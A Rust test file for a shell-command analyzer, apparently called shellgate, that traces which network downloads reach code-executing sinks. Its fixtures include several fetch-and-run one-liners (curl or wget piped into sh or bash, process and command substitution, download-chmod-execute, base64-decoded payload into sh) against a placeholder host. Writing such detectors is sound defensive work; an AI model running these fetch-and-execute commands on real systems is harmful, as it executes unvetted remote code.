//! Dataflow graph tests: which sources reach which code-executing sinks, and through what.

use shellgate::graph::FlowNode;
use shellgate::{Context, analyze};

/// Descriptions of every network→sink path in `cmd`.
fn network_paths(cmd: &str) -> Vec<String> {
    let a = analyze(cmd, &Context::fixture());
    a.flow
        .paths_to_sinks(&a.script, |n| matches!(n, FlowNode::Network { .. }))
        .iter()
        .map(|p| a.flow.describe(&a.script, p))
        .collect()
}

#[test]
fn pipe_through_tee_reaches_the_shell() {
    assert_eq!(
        network_paths("curl -s https://x/i.sh | tee /tmp/i.sh | sh"),
        ["curl →pipe→ tee →pipe→ sh"]
    );
}

#[test]
fn process_substitution_into_bash_is_a_path() {
    assert_eq!(
        network_paths("bash <(curl -s https://x/i.sh)"),
        ["curl →process substitution→ bash"]
    );
}

#[test]
fn command_substitution_into_sh_c_is_a_path() {
    assert_eq!(
        network_paths("sh -c \"$(wget -qO- https://x/i.sh)\""),
        ["wget →command substitution→ sh"]
    );
}

#[test]
fn download_then_run_goes_through_the_file() {
    let p = network_paths("curl -o /tmp/i.sh https://x/i.sh && bash /tmp/i.sh");
    assert_eq!(p, ["curl →saves→ /tmp/i.sh →executed by→ bash"]);
}

#[test]
fn chmod_then_execute_by_path_is_a_path() {
    let p = network_paths("wget https://x/tool.sh && chmod +x tool.sh && ./tool.sh");
    assert_eq!(
        p,
        ["wget →saves→ /home/user/project/tool.sh →executed by→ tool.sh"]
    );
}

#[test]
fn data_consumers_are_not_sinks() {
    assert!(network_paths("curl -s https://x/data.json | jq .").is_empty());
    assert!(network_paths("curl -s https://x/data.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'").is_empty());
    assert!(network_paths("curl -s https://x/a | bash -c 'cat > out'").is_empty());
}

#[test]
fn decoder_output_into_a_shell_is_a_path() {
    let a = analyze("base64 -d payload.txt | sh", &Context::fixture());
    let paths = a
        .flow
        .paths_to_sinks(&a.script, |n| matches!(n, FlowNode::Decoder { .. }));
    assert_eq!(paths.len(), 1);
}

#[test]
fn dot_output_is_a_digraph() {
    let a = analyze("curl -s https://x | sh", &Context::fixture());
    let dot = a.flow.dot(&a.script);
    assert!(dot.starts_with("digraph shellgate {"));
    assert!(dot.contains("-> n1 [label=\"pipe\"]"));
}
